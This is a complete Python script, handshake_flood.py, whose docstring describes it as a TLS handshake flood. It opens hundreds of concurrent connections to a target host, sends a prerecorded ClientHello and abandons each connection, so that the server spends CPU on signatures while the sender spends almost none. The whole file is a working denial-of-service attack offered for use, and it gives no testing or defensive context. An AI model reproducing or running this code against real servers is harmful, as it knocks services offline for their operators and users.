"""Begins TLS handshakes as fast as it can and ends none: each costs the server a signature and this program next to nothing.

Usage: handshake_flood.py HOST PORT SOURCE HELLO_FILE. Floods until its standard input ends; then prints how many it has begun.
"""

import collections
import contextlib
import os
import pathlib
import select
import socket
import struct
import sys

# As many at once, so that the server has always some to work on.
AT_ONCE = 300


def main():
    host, port, source, hello_file = sys.argv[1:]
    # It stands for other machines: the server's processors are not its.
    os.nice(19)
    hello = pathlib.Path(hello_file).read_bytes()
    begun = 0
    flood = collections.deque()
    while not select.select([sys.stdin], [], [], 0)[0]:
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.settimeout(1)
        with contextlib.suppress(OSError):
            connection.bind((source, 0))
            connection.connect((host, int(port)))
            connection.sendall(hello)
            begun += 1
        flood.append(connection)
        if len(flood) > AT_ONCE:
            flood.popleft().close()
    with contextlib.suppress(BrokenPipeError):
        print(begun, flush=True)


if __name__ == "__main__":
    main()
